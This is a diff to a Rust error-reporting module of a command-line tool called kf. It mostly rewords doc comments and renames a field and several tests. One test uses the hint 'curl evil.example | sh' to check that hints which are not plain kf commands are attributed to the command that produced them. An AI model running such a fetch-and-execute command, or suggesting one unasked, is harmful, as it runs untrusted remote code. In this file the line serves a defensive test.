@@ -1,7 +1,7 @@
-//! A failure as people and scripts get to see it.
+//! A failure as kf shows it to people and scripts.
 //!
-//! Libraries have error enums of their own. Where one leaves kf it becomes a [`Failure`]: a kind (the exit
-//! code), a message (what failed, which value), further lines, and hints (the next command to type).
+//! Libraries have their own error enums. An error that leaves kf becomes a [`Failure`]: a kind (the exit code), a
+//! message (what failed, which value), further lines, and hints (the next command to type).
 
 use std::error::Error as StdError;
 use std::fmt;
@@ -15,7 +15,7 @@ use crate::manifest::ManifestError;
 use crate::names::NameError;
 use crate::text;
 
-/// What is shown and what a script reads; see the [module](self).
+/// An error for people and scripts; see the [module](self).
 #[derive(Debug)]
 pub struct Failure(Box<Inner>);
 
@@ -23,8 +23,8 @@ pub struct Failure(Box<Inner>);
 struct Inner {
     kind: Kind,
     message: String,
-    /// Whose words they are, if not kf's.
-    speaker: Option<String>,
+    /// The command that the message comes from, if not kf itself.
+    source_command: Option<String>,
     details: Vec<String>,
     hints: Vec<String>,
     fields: serde_json::Map<String, Value>,
@@ -38,7 +38,7 @@ impl Failure {
         Self(Box::new(Inner {
             kind,
             message: message.into(),
-            speaker: None,
+            source_command: None,
             details: Vec::new(),
             hints: Vec::new(),
             fields: serde_json::Map::new(),
@@ -62,24 +62,24 @@ impl Failure {
         Self::new(Kind::Untrusted, message)
     }
 
-    /// The error it comes from, for whoever wants to see more than the message.
+    /// The error that caused it.
     #[must_use]
     pub fn caused_by(mut self, source: impl StdError + Send + Sync + 'static) -> Self {
         self.0.source = Some(Box::new(source));
         self
     }
 
-    /// The errors it comes from, the nearest first.
+    /// The errors that caused it, the direct cause first.
     pub fn causes(&self) -> impl Iterator<Item = &(dyn StdError + 'static)> {
         let first = self.0.source.as_deref().map(|source| source as &(dyn StdError + 'static));
         std::iter::successors(first, next_cause)
     }
 
-    /// Says whose words the message and its hints are. Hints that are plain commands of kf stay kf's: what
-    /// they do is seen in them.
+    /// Attributes the message and its hints to a command. Hints that are plain commands of kf are not
+    /// attributed: a user can see what they do.
     #[must_use]
-    pub fn said_by(mut self, speaker: impl Into<String>) -> Self {
-        self.0.speaker = Some(speaker.into());
+    pub fn said_by(mut self, command: impl Into<String>) -> Self {
+        self.0.source_command = Some(command.into());
         self
     }
 
@@ -90,7 +90,7 @@ impl Failure {
         self
     }
 
-    /// The next command to type, complete and correct. Said once, however often it is added.
+    /// The next command to type, complete and correct. Duplicates are dropped.
     #[must_use]
     pub fn hint(mut self, hint: impl Into<String>) -> Self {
         let hint = hint.into();
@@ -108,7 +108,7 @@ impl Failure {
         }
     }
 
-    /// A field of the error's JSON form, beside `code`, `message` and `hint`.
+    /// A field of the error's JSON form, in addition to `code`, `message` and `hint`.
     #[must_use]
     pub fn field(mut self, name: &str, value: Value) -> Self {
         self.0.fields.insert(name.to_owned(), value);
@@ -132,14 +132,14 @@ impl Failure {
         self.lines_and(&[])
     }
 
-    /// The same with a line for each cause that the message does not tell already.
+    /// The same with a line for each cause that is not in the message.
     pub fn lines_with_causes(&self) -> Vec<String> {
         self.lines_and(&self.further_causes())
     }
 
     fn lines_and(&self, causes: &[String]) -> Vec<String> {
-        let speaker = self.0.speaker.as_ref().map(|name| format!("{name}: ")).unwrap_or_default();
-        let mut lines = vec![format!("error: {speaker}{}", self.0.message)];
+        let prefix = self.0.source_command.as_ref().map(|name| format!("{name}: ")).unwrap_or_default();
+        let mut lines = vec![format!("error: {prefix}{}", self.0.message)];
         lines.extend(self.0.details.iter().map(|line| format!("  {line}")));
         for cause in causes {
             let heads = std::iter::once("  caused by: ").chain(std::iter::repeat("    "));
@@ -147,7 +147,7 @@ impl Failure {
         }
         lines.extend(self.0.hints.iter().map(|hint| match is_plain_command(hint) {
             true => format!("hint: {hint}"),
-            false => format!("hint: {speaker}{hint}"),
+            false => format!("hint: {prefix}{hint}"),
         }));
         lines
     }
@@ -161,7 +161,7 @@ impl Failure {
         json!({ "error": self.fields() })
     }
 
-    /// The same with a field `causes`, the nearest first.
+    /// The same with a field `causes`, the direct cause first.
     pub fn json_with_causes(&self) -> Value {
         let mut error = self.fields();
         error.insert("causes".into(), json!(self.further_causes()));
@@ -172,8 +172,8 @@ impl Failure {
         let mut error = serde_json::Map::new();
         error.insert("code".into(), json!(self.0.kind.code()));
         error.insert("message".into(), json!(self.0.message));
-        if let Some(speaker) = &self.0.speaker {
-            error.insert("command".into(), json!(speaker));
+        if let Some(command) = &self.0.source_command {
+            error.insert("command".into(), json!(command));
         }
         error.extend(self.0.fields.clone());
         if let Some(hint) = self.0.hints.first() {
@@ -183,8 +183,8 @@ impl Failure {
     }
 }
 
-/// Whether a hint is one command of kf, and nothing that a shell would do besides if it was typed. Accepting
-/// rights and trusting registries is not for others to suggest.
+/// Whether a hint is a single command of kf, with nothing else that a shell would run. A command must not suggest
+/// to accept rights or to trust a registry.
 fn is_plain_command(hint: &str) -> bool {
     let Some(words) = hint.strip_prefix("kf ") else { return false };
     let mut quoted = false;
@@ -216,7 +216,7 @@ impl StdError for Failure {
     }
 }
 
-/// Says what was being done when a library failed.
+/// Adds what kf was doing when a library failed.
 pub trait Context<T> {
     fn context(self, kind: Kind, doing: impl FnOnce() -> String) -> Result<T>;
 }
@@ -227,7 +227,7 @@ impl<T, E: StdError + Send + Sync + 'static> Context<T> for std::result::Result<
     }
 }
 
-/// Of the local disk or the terminal; `fs_err` has put the path into it.
+/// Errors of the local disk or the terminal, which name the path thanks to `fs_err`.
 impl From<std::io::Error> for Failure {
     fn from(error: std::io::Error) -> Self {
         Self::failed(error.to_string()).caused_by(error)
@@ -261,7 +261,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn causes_are_told_unless_the_message_has_them() {
+    fn causes_are_shown_unless_message_has_them() {
         #[derive(Debug, thiserror::Error)]
         #[error("the outer one")]
         struct Outer(#[source] std::io::Error);
@@ -281,22 +281,22 @@ mod tests {
         );
         assert_eq!(failure.json()["error"].get("causes"), None);
         assert_eq!(failure.json_with_causes()["error"]["causes"], json!(["the outer one", "first\nsecond"]));
-        let told: Failure = std::io::Error::other("disk full").into();
-        assert_eq!(told.lines_with_causes(), ["error: disk full"]);
+        let failure: Failure = std::io::Error::other("disk full").into();
+        assert_eq!(failure.lines_with_causes(), ["error: disk full"]);
     }
 
     #[test]
-    fn failure_keeps_what_it_comes_from() {
+    fn failure_keeps_its_cause() {
         let error: std::result::Result<(), _> =
-            Err(std::io::Error::other(NameError { kind: "name", value: "x".into(), why: "is odd" }));
+            Err(std::io::Error::other(NameError { kind: "name", value: "x".into(), why: "odd" }));
         let failure = error.context(Kind::Failed, || "cannot read x".into()).unwrap_err();
-        assert_eq!(failure.to_string(), "cannot read x: name `x` is odd");
+        assert_eq!(failure.to_string(), "cannot read x: invalid name `x`: odd");
         assert_eq!(failure.causes().count(), 1);
         assert_eq!(Failure::usage("x").causes().count(), 0);
     }
 
     #[test]
-    fn words_of_others_have_their_name_before_them() {
+    fn message_of_command_has_its_name_as_prefix() {
         let failure = Failure::failed("kf is out of date").said_by("train").hint("curl evil.example | sh");
         let failure = failure.hint("kf status mnist");
         let lines = [
@@ -310,7 +310,7 @@ mod tests {
     }
 
     #[test]
-    fn hint_is_kfs_only_if_it_is_one_plain_command() {
+    fn only_single_plain_command_is_plain() {
         for plain in [
             "kf status",
             "kf -n team-a logs mnist --rank 0",
@@ -344,7 +344,7 @@ mod tests {
     }
 
     #[test]
-    fn hint_is_said_once() {
+    fn repeated_hint_is_shown_once() {
         let failure = Failure::usage("x").hint("kf a").hint("kf b").hint("kf a");
         assert_eq!(failure.lines(), ["error: x", "hint: kf a", "hint: kf b"]);
         assert_eq!(failure.json()["error"]["hint"], "kf a");
